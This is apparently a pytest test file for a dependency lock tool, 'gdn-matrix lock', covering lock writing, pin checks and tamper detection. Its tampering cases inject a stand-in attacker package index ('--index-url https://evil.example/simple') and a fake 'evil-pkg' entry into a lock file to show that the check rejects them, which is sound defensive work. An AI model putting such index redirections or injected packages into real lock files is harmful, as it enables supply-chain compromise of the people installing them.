"""`gdn-matrix lock` and `lock --check`: offline against a flat index of tiny wheels built here (uv
--no-index --find-links), so resolution, naming and the lock/pin comparisons are deterministic; and
against the real package index for the shipped matrix (skipped only when the index is unreachable)."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
import zipfile
from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest
import yaml

from gdn.matrix import cli, lock
from gdn.matrix.cell import run_cell
from gdn.matrix.config import load_matrix
from gdn.matrix.lockfile import LockFileError, WheelhouseFile, body_digest, file_sha256, parse_body
from repo_paths import ROOT, TESTS

pytestmark = pytest.mark.tooling
# Cell images collect tests/ too (then deselect by marker) and carry no uv.
uv = pytest.importorskip("uv", reason="uv (the matrix extra) is not installed")

# matrix.yaml as it was before cells were locked: npu-2610 pinned versions that do not exist.
BEFORE_LOCKS = TESTS / "data" / "matrix-2026-12-01.yaml"
AARCH64_312 = "cp312-cp312-manylinux_2_28_aarch64"
AARCH64_311 = "cp311-cp311-manylinux_2_28_aarch64"
X86_312 = "cp312-cp312-manylinux_2_28_x86_64"
X86_311 = "cp311-cp311-manylinux_2_28_x86_64"
ANY = "py3-none-any"
MISSING_TORCH_NPU = (
    "cell npu-2610: torch-npu==2.9.0.post3 has no distribution for aarch64-manylinux_2_28 / CPython 3.12"
)


def wheel(directory: Path, name: str, version: str, tag: str = ANY, requires: tuple[str, ...] = ()) -> Path:
    """A minimal valid wheel: METADATA, WHEEL and RECORD in a zip named after its tags."""
    stem = name.replace("-", "_")
    dist_info = f"{stem}-{version}.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    metadata += "".join(f"Requires-Dist: {r}\n" for r in requires)
    pure = "true" if tag == ANY else "false"
    files = {
        f"{dist_info}/METADATA": metadata,
        f"{dist_info}/WHEEL": f"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: {pure}\nTag: {tag}\n",
    }
    files[f"{dist_info}/RECORD"] = "".join(f"{path},,\n" for path in files) + f"{dist_info}/RECORD,,\n"
    path = directory / f"{stem}-{version}-{tag}.whl"
    directory.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        for member, text in files.items():
            archive.writestr(member, text)
    return path


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def index(tmp_path: Path) -> Path:
    """What the index offered on 2026-12-01, in miniature: torch_npu without 2.9.0.post3, triton-ascend
    3.2.0 for CPython up to 3.11 only, torch 2.13 pinning triton 3.7.1."""
    directory = tmp_path / "index"
    for tag in (AARCH64_311, AARCH64_312):
        wheel(directory, "torch", "2.9.0", tag, ("filelock",))
        wheel(directory, "torch", "2.10.0", tag, ("filelock",))
        for version in ("2.9.0.post2", "2.9.0.post4"):
            wheel(directory, "torch-npu", version, tag, ("torch==2.9.0",))
        wheel(directory, "torch-npu", "2.10.0.post4", tag, ("torch==2.10.0",))
    wheel(directory, "triton-ascend", "3.2.0", AARCH64_311)
    for tag in (X86_311, X86_312):
        wheel(directory, "torch", "2.13.0", tag, ("filelock", 'triton==3.7.1; sys_platform == "linux"'))
        for version in ("3.7.1", "3.9.0"):
            wheel(directory, "triton", version, tag)
    wheel(directory, "filelock", "1.0")
    for version in ("5.2.0", "5.24.0"):
        wheel(directory, "transformers", version, ANY, ("filelock",))
    wheel(directory, "pytest", "9.2.0")
    return directory


def checkout(tmp_path: Path, cells: list[dict[str, Any]]) -> Path:
    """A source checkout with a matrix of `cells` and one test tool."""
    root = tmp_path / "checkout"
    (root / "docker").mkdir(parents=True)
    (root / "docker" / "requirements-test.txt").write_text("# the test tools\npytest==9.2.0\n")
    write_matrix(root, cells)
    return root


def write_matrix(root: Path, cells: list[dict[str, Any]]) -> None:
    (root / "matrix.yaml").write_text(yaml.safe_dump({"schema": 1, "cells": cells}))


def npu_cell(**changes: Any) -> dict[str, Any]:
    cell = {
        "name": "npu-2610",
        "device": "npu",
        "runtime": "docker",
        "dockerfile": "docker/npu.Dockerfile",
        "base_image": "cann:9.1.0",
        "versions": {
            "python": "3.12",
            "cann": "9.1.0",
            "torch": "2.9.0",
            "torch_npu": "2.9.0.post2",
            "fla_npu": "26.10.0",
            "transformers": "5.24.0",
        },
        "wheels": ["flash_linear_attention_npu-26.10.0-910_93.aarch64-py3-none-any.whl"],
        "wheelhouse_pins": ["fla_npu"],
    }
    return {**cell, **changes}


def gdn_lock(root: Path, index: Path | None, *args: str, capsys) -> tuple[int, str, str]:
    """`gdn-matrix lock ARGS` on `root`'s matrix, offline against `index` (None: the real index)."""
    offline = ["--no-index", "--find-links", str(index)] if index is not None else []
    code = cli.main(["lock", "--matrix", str(root / "matrix.yaml"), "--root", str(root), *offline, *args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def real_index() -> None:
    """Skips when the package index cannot be reached from here."""
    run = subprocess.run(
        [uv.find_uv_bin(), "pip", "compile", "-", "--no-deps", "--no-config", "--quiet", "--no-header"],
        input="packaging==26.4\n",
        capture_output=True,
        text=True,
        env={**os.environ, **lock.UV_ENV},
        timeout=120,
        check=False,
    )
    if run.returncode != 0:
        pytest.skip(f"the package index is unreachable: {run.stderr.strip()[-300:]}")


# ---------------------------------------------------------------- the matrix as it was


def test_check_names_the_missing_torch_npu_of_the_old_matrix_offline(tmp_path, index, capsys) -> None:
    root = checkout(tmp_path, [])
    shutil.copyfile(BEFORE_LOCKS, root / "matrix.yaml")
    code, out, err = gdn_lock(root, index, "--check", "npu-2610", capsys=capsys)
    assert code == 1
    assert MISSING_TORCH_NPU + " (" in err
    # triton-ascend 3.2.1 is missing too, and a 3.2.0 would not have served CPython 3.12 either
    assert "cell npu-2610: triton-ascend==3.2.1 has no distribution for aarch64-manylinux_2_28" in err
    assert "torch==2.9.0 has no" not in err and "transformers==5.24.0 has no" not in err
    assert "cell npu-2610: no lock file locks/npu-2610.txt; make it with `gdn-matrix lock npu-2610`" in err
    assert out == "cell npu-2610: lock check failed\n"


def test_check_names_the_missing_torch_npu_of_the_old_matrix_on_the_real_index(tmp_path, real_index, capsys) -> None:
    root = checkout(tmp_path, [])
    shutil.copyfile(BEFORE_LOCKS, root / "matrix.yaml")
    code, _, err = gdn_lock(root, None, "--check", "npu-2610", capsys=capsys)
    assert code == 1
    assert MISSING_TORCH_NPU + " (" in err
    assert "triton-ascend==3.2.1 has no distribution for aarch64-manylinux_2_28 / CPython 3.12" in err


def test_the_shipped_matrix_and_locks_pass_the_check_on_the_real_index(real_index, capsys) -> None:
    code, out, err = gdn_lock(ROOT, None, "--check", capsys=capsys)
    assert (code, err) == (0, "")
    locked = [cell.name for cell in load_matrix(ROOT / "matrix.yaml").cells if cell.locked]
    # the cpu cell's torch+cpu is a wheelhouse file, which a machine may lack: then it says so
    said = [line.split(" (torch's hash not verified here: ", 1)[0] for line in out.splitlines()]
    assert said == [f"cell {name}: ok" for name in locked]
    assert {"cpu", "npu-266", "npu-2610", "npu-fla"} <= set(locked)


# ---------------------------------------------------------------- writing and reading a lock


def test_lock_writes_a_hashed_lock_that_reads_back_and_passes_the_check(tmp_path, index, capsys) -> None:
    root = checkout(tmp_path, [npu_cell()])
    house = root / "wheelhouse"
    fla_npu = wheel(house, "flash-linear-attention-npu", "26.10.0", "910_93.aarch64-py3-none-any")
    code, out, err = gdn_lock(root, index, "npu-2610", capsys=capsys)
    assert (code, err) == (0, ""), err
    assert out == "cell npu-2610: locked locks/npu-2610.txt\n"
    path = root / "locks" / "npu-2610.txt"
    text = path.read_text()
    assert (
        f"torch-npu==2.9.0.post2 \\\n    --hash=sha256:{sha256(index / f'torch_npu-2.9.0.post2-{AARCH64_312}.whl')}"
        in text
    )
    assert f"flash-linear-attention-npu==26.10.0 \\\n    --hash=sha256:{sha256(fla_npu)}" in text
    assert str(tmp_path) not in text, "a lock names no path of the machine that made it"

    read = lock.read_lock(path)
    assert (read.cell, read.platform, read.python) == ("npu-2610", "aarch64-manylinux_2_28", "3.12")
    assert read.uv == lock.uv_version() and read.digest == "sha256:" + sha256(path)
    assert read.packages == {
        "torch": "2.9.0",
        "torch-npu": "2.9.0.post2",
        "filelock": "1.0",
        "transformers": "5.24.0",
        "pytest": "9.2.0",
        "flash-linear-attention-npu": "26.10.0",
    }
    assert read.wheelhouse == (
        WheelhouseFile(file=fla_npu.name, name="flash-linear-attention-npu", version="26.10.0", sha256=sha256(fla_npu)),
    )
    assert read.summary() == {"digest": read.digest, "packages": dict(sorted(read.packages.items()))}
    assert gdn_lock(root, index, "--check", capsys=capsys) == (0, "cell npu-2610: ok\n", "")


def test_a_wheelhouse_file_absent_when_locked_is_said_so(tmp_path, index, capsys) -> None:
    root = checkout(tmp_path, [npu_cell()])
    assert gdn_lock(root, index, "npu-2610", capsys=capsys)[0] == 0
    path = root / "locks" / "npu-2610.txt"
    file = "flash_linear_attention_npu-26.10.0-910_93.aarch64-py3-none-any.whl"
    assert f"# wheelhouse: {file} hash not recorded: file absent when locked\n" in path.read_text()
    read = lock.read_lock(path)
    assert read.unrecorded == read.wheelhouse and read.unrecorded[0].sha256 is None
    assert read.packages["flash-linear-attention-npu"] == "26.10.0"


def test_a_pin_from_the_wheelhouse_is_locked_as_that_file(tmp_path, index, capsys) -> None:
    """torch+cpu lies in the wheelhouse and a CUDA build of the same version on the index."""
    cpu = {
        "name": "cpu",
        "device": "cpu",
        "runtime": "docker",
        "dockerfile": "docker/cpu.Dockerfile",
        "base_image": "bookworm",
        "versions": {"python": "3.11", "torch": "2.13.0", "triton": "3.9.0", "transformers": "5.2.0"},
        "wheels": [f"torch-2.13.0+cpu-{X86_311}.whl"],
    }
    root = checkout(tmp_path, [cpu])
    code, _, err = gdn_lock(root, index, "cpu", capsys=capsys)
    assert code == 2
    assert f"cell cpu: torch-2.13.0+cpu-{X86_311}.whl is not in the wheelhouse {root / 'wheelhouse'}" in err
    torch_cpu = wheel(root / "wheelhouse", "torch", "2.13.0+cpu", X86_311, ("filelock",))
    assert gdn_lock(root, index, "cpu", capsys=capsys)[0] == 0
    text = (root / "locks" / "cpu.txt").read_text()
    assert f"torch==2.13.0+cpu \\\n    --hash=sha256:{sha256(torch_cpu)}\n" in text
    assert lock.read_lock(root / "locks" / "cpu.txt").packages["torch"] == "2.13.0+cpu"
    assert gdn_lock(root, index, "--check", capsys=capsys)[0] == 0


def test_a_cells_triton_overrides_the_one_torch_pins(tmp_path, index, capsys) -> None:
    cuda = {
        "name": "cuda-triton39",
        "device": "cuda",
        "runtime": "docker",
        "dockerfile": "docker/cuda.Dockerfile",
        "base_image": "nvidia/cuda",
        "versions": {"python": "3.12", "cuda": "13.0", "torch": "2.13.0", "triton": "3.9.0"},
    }
    root = checkout(tmp_path, [cuda])
    code, _, err = gdn_lock(root, index, "cuda-triton39", capsys=capsys)
    assert (code, err) == (0, ""), err
    read = lock.read_lock(root / "locks" / "cuda-triton39.txt")
    assert (read.platform, read.packages["torch"], read.packages["triton"]) == (
        "x86_64-manylinux_2_28",
        "2.13.0",
        "3.9.0",
    )


def test_pins_that_do_not_resolve_together_fail_naming_the_cell(tmp_path, index, capsys) -> None:
    root = checkout(tmp_path, [npu_cell(versions={**npu_cell()["versions"], "torch": "2.10.0"})])
    code, _, err = gdn_lock(root, index, "npu-2610", capsys=capsys)
    assert code == 1
    assert "cell npu-2610: the pins do not resolve for aarch64-manylinux_2_28: " in err
    assert "torch-npu==2.9.0.post2" in err
    assert not (root / "locks" / "npu-2610.txt").exists()


# ---------------------------------------------------------------- a committed lock against the pins


def test_a_lock_that_no_longer_satisfies_a_pin_fails_naming_cell_and_package(tmp_path, index, capsys) -> None:
    root = checkout(tmp_path, [npu_cell()])
    assert gdn_lock(root, index, "npu-2610", capsys=capsys)[0] == 0
    write_matrix(root, [npu_cell(versions={**npu_cell()["versions"], "transformers": "5.2.0"})])
    code, out, err = gdn_lock(root, index, "--check", capsys=capsys)
    assert code == 1
    assert err == "cell npu-2610: matrix pins transformers==5.2.0, locks/npu-2610.txt has transformers==5.24.0\n"
    assert out == "cell npu-2610: lock check failed\n"
    # a test tool the lock lacks
    (root / "docker" / "requirements-test.txt").write_text("pytest==9.2.0\nfilelock==1.0\nnumpy==2.0\n")
    write_matrix(root, [npu_cell()])
    err = gdn_lock(root, index, "--check", capsys=capsys)[2]
    assert "cell npu-2610: matrix pins numpy==2.0, locks/npu-2610.txt has no numpy\n" in err


def test_changed_inputs_that_every_pin_still_meets_fail_the_check(tmp_path, index, capsys) -> None:
    """Dropping a pin leaves its package in the lock: the image would install what the cell no longer asks."""
    root = checkout(tmp_path, [npu_cell()])
    assert gdn_lock(root, index, "npu-2610", capsys=capsys)[0] == 0
    versions = {k: v for k, v in npu_cell()["versions"].items() if k != "transformers"}
    write_matrix(root, [npu_cell(versions=versions)])
    code, _, err = gdn_lock(root, index, "--check", capsys=capsys)
    assert code == 1
    assert "cell npu-2610: the lock's inputs changed since locks/npu-2610.txt was made" in err
    assert "refresh it with `gdn-matrix lock npu-2610`" in err


def test_newer_versions_on_the_index_do_not_fail_the_check(tmp_path, index, capsys) -> None:
    root = checkout(tmp_path, [npu_cell()])
    assert gdn_lock(root, index, "npu-2610", capsys=capsys)[0] == 0
    wheel(index, "filelock", "2.0")
    wheel(index, "transformers", "5.25.0", ANY, ("filelock",))
    for tag in (AARCH64_311, AARCH64_312):
        wheel(index, "torch-npu", "2.9.0.post9", tag, ("torch==2.9.0",))
    assert gdn_lock(root, index, "--check", capsys=capsys) == (0, "cell npu-2610: ok\n", "")
    # what a refresh is for: the unpinned dependency moves on
    assert gdn_lock(root, index, "npu-2610", capsys=capsys)[0] == 0
    assert lock.read_lock(root / "locks" / "npu-2610.txt").packages["filelock"] == "2.0"


def test_a_lock_made_for_another_python_fails(tmp_path, index, capsys) -> None:
    root = checkout(tmp_path, [npu_cell()])
    assert gdn_lock(root, index, "npu-2610", capsys=capsys)[0] == 0
    write_matrix(root, [npu_cell(versions={**npu_cell()["versions"], "python": "3.11"})])
    err = gdn_lock(root, index, "--check", capsys=capsys)[2]
    assert "cell npu-2610: locks/npu-2610.txt is for Python 3.12, the cell is 3.11\n" in err


# ---------------------------------------------------------------- unusable input, and the cell record


def test_unusable_input_exits_2(tmp_path, index, capsys) -> None:
    root = checkout(tmp_path, [npu_cell()])
    code, _, err = gdn_lock(root, index, "--check", "gpu", capsys=capsys)
    assert code == 2 and "no cell named 'gpu'" in err
    tools = (root / "docker" / "requirements-test.txt").read_text()
    (root / "docker" / "requirements-test.txt").unlink()
    code, _, err = gdn_lock(root, index, "--check", capsys=capsys)
    assert code == 2 and "cannot read the test tools' pins" in err
    (root / "docker" / "requirements-test.txt").write_text(tools)
    (root / "locks").mkdir()
    (root / "locks" / "npu-2610.txt").write_text("torch==2.9.0\n")
    with pytest.raises(LockFileError, match=r"line 1: not a gdn-matrix lock \(its header lacks cell, platform"):
        lock.read_lock(root / "locks" / "npu-2610.txt")
    (root / "locks" / "npu-2610.txt").unlink()
    (root / "locks" / "npu-2610.txt").mkdir()
    with pytest.raises(lock.LockError, match=r"cannot read the lock .*npu-2610.txt: "):
        lock.read_lock(root / "locks" / "npu-2610.txt")


def test_a_cell_without_pins_has_no_lock(tmp_path, index, capsys) -> None:
    root = checkout(tmp_path, [{"name": "local", "device": "cpu", "runtime": "host"}, npu_cell()])
    assert load_matrix(root / "matrix.yaml").cell("local").locked is False
    code, _, err = gdn_lock(root, index, "--check", capsys=capsys)
    # every locked cell is checked; `local` is not among them
    assert code == 1 and "local" not in err and "no lock file locks/npu-2610.txt" in err


def test_a_cell_run_records_its_lock(tmp_path, index, capsys) -> None:
    root = checkout(tmp_path, [npu_cell()])
    assert gdn_lock(root, index, "npu-2610", capsys=capsys)[0] == 0
    matrix = load_matrix(root / "matrix.yaml")
    # no NPU under this host root: the cell is not run, and its record still names its lock
    outcome = run_cell(
        matrix, matrix.cell("npu-2610"), root, tmp_path / "results", echo=lambda line: None, host_root=tmp_path
    )
    assert outcome.status == "not_run"
    assert asdict(outcome.lock) == lock.read_lock(root / "locks" / "npu-2610.txt").summary()


# ---------------------------------------------------------------- a lock checked whole

CPU_LOCK = (ROOT / "locks" / "cpu.txt").read_text()


def _line(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


def _entry_of(text: str, name: str) -> str:
    """A package's lines: its requirement, hashes and comments, up to the next requirement."""
    start = text.index(f"\n{name}==") + 1
    rest = text.index("\n", start) + 1
    following = re.search(r"^[a-z0-9]", text[rest:], re.MULTILINE)
    return text[start : rest + following.start()]


_HASHES = re.findall(r"--hash=sha256:([0-9a-f]{64})", CPU_LOCK)
DOC_HASH, TYPES_HASH = _HASHES[0], CPU_LOCK.split("annotated-types==", 1)[1].split("sha256:", 1)[1][:64]
CHANGED_HASH = DOC_HASH[:-1] + ("0" if DOC_HASH[-1] != "0" else "1")
FIRST = "annotated-doc==0.0.7 \\\n"
BODY_LINE = _line(CPU_LOCK, "# body: ")
LAST = CPU_LOCK.count("\n")
ANYIO = _entry_of(CPU_LOCK, "anyio")


TAMPERINGS: dict[str, tuple[bytes, str]] = {
    "hash-digit-changed": (
        CPU_LOCK.replace(DOC_HASH, CHANGED_HASH, 1).encode(),
        f"line {_line(CPU_LOCK, DOC_HASH)}: sha256:{CHANGED_HASH[:12]}… is no file of annotated-doc 0.0.7 on the index",
    ),
    "hash-swapped-for-another-packages": (
        CPU_LOCK.replace(DOC_HASH, TYPES_HASH, 1).encode(),
        f"line {_line(CPU_LOCK, TYPES_HASH)}: sha256:{TYPES_HASH[:12]}… is listed for both annotated-doc "
        f"(line {_line(CPU_LOCK, DOC_HASH)}) and annotated-types",
    ),
    "package-added-with-a-hash": (
        CPU_LOCK.replace(FIRST, f"evil-pkg==1.0 \\\n    --hash=sha256:{'e' * 64}\n{FIRST}", 1).encode(),
        f"line {BODY_LINE + 1}: evil-pkg==1.0 is not on the index for x86_64-manylinux_2_28 / CPython 3.11",
    ),
    "package-added-without-a-hash": (
        CPU_LOCK.replace(FIRST, f"evil-pkg==1.0\n{FIRST}", 1).encode(),
        f"line {BODY_LINE + 1}: evil-pkg==1.0 has no --hash=sha256: pip's --require-hashes needs one",
    ),
    "index-url-line": (
        CPU_LOCK.replace(FIRST, f"--index-url https://evil.example/simple\n{FIRST}", 1).encode(),
        f"line {BODY_LINE + 1}: '--index-url https://evil.example/simple' is a pip option; a lock holds none",
    ),
    "extra-index-url-line": (
        CPU_LOCK.replace(FIRST, f"--extra-index-url https://evil.example/simple\n{FIRST}", 1).encode(),
        f"line {BODY_LINE + 1}: '--extra-index-url https://evil.example/simple' is a pip option; a lock holds none",
    ),
    "unpinned-version-changed": (
        CPU_LOCK.replace("\nfilelock==4.3.1 \\", "\nfilelock==4.3.0 \\", 1).encode(),
        f"line {_line(CPU_LOCK, 'filelock==4.3.1')}: filelock==4.3.0 is not on the index",
    ),
    "line-cut-mid-hash": (
        CPU_LOCK.replace(DOC_HASH, DOC_HASH[:30], 1).encode(),
        f"line {_line(CPU_LOCK, DOC_HASH)}: annotated-doc==0.0.7 continues here, but "
        f"'    --hash=sha256:{DOC_HASH[:30]} \\\\' is not a `    --hash=sha256:<64 hex>` line",
    ),
    "file-cut-mid-hash": (
        CPU_LOCK[: CPU_LOCK.index(DOC_HASH) + 30].encode(),
        f"line {_line(CPU_LOCK, DOC_HASH)}: no newline at its end: the file is cut short",
    ),
    "broken-continuation": (
        CPU_LOCK.replace(FIRST, "annotated-doc==0.0.7\n", 1).encode(),
        f"line {_line(CPU_LOCK, DOC_HASH)}: '--hash=sha256:{DOC_HASH} \\\\' continues nothing",
    ),
    "package-removed": (
        CPU_LOCK.replace(ANYIO, "", 1).encode(),
        f"line {BODY_LINE}: the body (lines {BODY_LINE + 1}-{LAST - ANYIO.count(chr(10))}) is not what "
        "`gdn-matrix lock` wrote",
    ),
    "crlf-line-endings": (
        CPU_LOCK.replace("\n", "\r\n").encode(),
        "line 1: a CRLF line ending; a lock's lines end in LF alone",
    ),
    "duplicate-package": (
        (CPU_LOCK + ANYIO).encode(),
        f"line {LAST + 1}: anyio is listed twice (first at line {_line(CPU_LOCK, ANYIO)})",
    ),
    "invalid-utf8-byte": (
        CPU_LOCK.encode().replace(b"# via typer", b"# via t\xffper", 1),
        f"line {_line(CPU_LOCK, '# via typer')}: not valid UTF-8 (byte 0xff)",
    ),
}


@pytest.fixture
def cpu_checkout(tmp_path: Path, monkeypatch) -> Path:
    """This repository's matrix, test tools and cpu lock in a scratch checkout, the index standing in
    for PyPI as what the committed lock was made from: each pin exists, each release has the files the
    committed lock lists (test_the_shipped_matrix_and_locks_pass_the_check_on_the_real_index proves
    both against the index itself)."""
    root = tmp_path / "checkout"
    (root / "docker").mkdir(parents=True)
    (root / "locks").mkdir()
    for name in ("matrix.yaml", "docker/requirements-test.txt", "locks/cpu.txt"):
        shutil.copyfile(ROOT / name, root / name)
    committed, _ = parse_body(CPU_LOCK[CPU_LOCK.index(FIRST) :])
    files = {r.name: (r.version, r.hashes) for r in committed}

    def index_hashes(inputs, requirements, index_args):
        asked = dict(requirement.split("==") for requirement in requirements)
        return {name: files[name] for name, version in asked.items() if files.get(name, ("",))[0] == version}

    monkeypatch.setattr(lock, "missing_pins", lambda inputs, index_args=(): [])
    monkeypatch.setattr(lock, "_index_hashes", index_hashes, raising=False)
    monkeypatch.delenv("GDN_WHEELHOUSE", raising=False)
    return root


def test_the_committed_cpu_lock_passes_the_whole_check(cpu_checkout, capsys):
    code, out, err = gdn_lock(cpu_checkout, None, "--check", "cpu", capsys=capsys)
    assert (code, err) == (0, "")
    assert out.startswith("cell cpu: ok")


@pytest.mark.parametrize("tampering", TAMPERINGS, ids=list(TAMPERINGS))
def test_every_tampering_of_a_lock_fails_the_check_naming_cell_and_line(cpu_checkout, capsys, tampering):
    """Of 18 tamperings of locks/cpu.txt, these passed as "cell cpu: ok" (the invalid byte was a
    traceback): the check read only the header and the pins."""
    content, said = TAMPERINGS[tampering]
    (cpu_checkout / "locks" / "cpu.txt").write_bytes(content)
    code, out, err = gdn_lock(cpu_checkout, None, "--check", "cpu", capsys=capsys)
    assert code == 1, err
    assert out.startswith("cell cpu: lock check failed")
    assert f"cell cpu: locks/cpu.txt {said}" in err, err
    assert "Traceback" not in err


def test_a_tampering_that_rewrites_the_body_digest_fails_on_the_real_index(tmp_path, real_index, capsys):
    """Whoever knows the format can recompute the body's digest: a hash that is no file of its release on
    the index, or a version changed under its old hashes, still fails."""
    root = tmp_path / "checkout"
    (root / "docker").mkdir(parents=True)
    (root / "locks").mkdir()
    for name in ("matrix.yaml", "docker/requirements-test.txt"):
        shutil.copyfile(ROOT / name, root / name)
    header, body = CPU_LOCK[: CPU_LOCK.index(FIRST)], CPU_LOCK[CPU_LOCK.index(FIRST) :]
    for old, new, said in (
        (DOC_HASH, CHANGED_HASH, f"sha256:{CHANGED_HASH[:12]}… is no file of annotated-doc 0.0.7 on the index"),
        ("\nfilelock==4.3.1 \\", "\nfilelock==3.12.0 \\", "is no file of filelock 3.12.0 on the index"),
    ):
        tampered = body.replace(old, new, 1)
        text = header.replace(body_digest(body), body_digest(tampered)) + tampered
        (root / "locks" / "cpu.txt").write_text(text)
        code, _, err = gdn_lock(root, None, "--check", "cpu", capsys=capsys)
        assert code == 1 and "cell cpu: locks/cpu.txt line " in err and said in err, err


def test_a_files_sha256_covers_every_block(tmp_path):
    """The sha256 that a lock records for a wheelhouse file, and that the image tag hashes for its
    inputs, is read in blocks: two full ones and a partial last one all count."""
    data = os.urandom((5 << 20) // 2 + 123)
    path = tmp_path / "pkg-1.0-py3-none-any.whl"
    path.write_bytes(data)
    assert file_sha256(path) == hashlib.sha256(data).hexdigest()
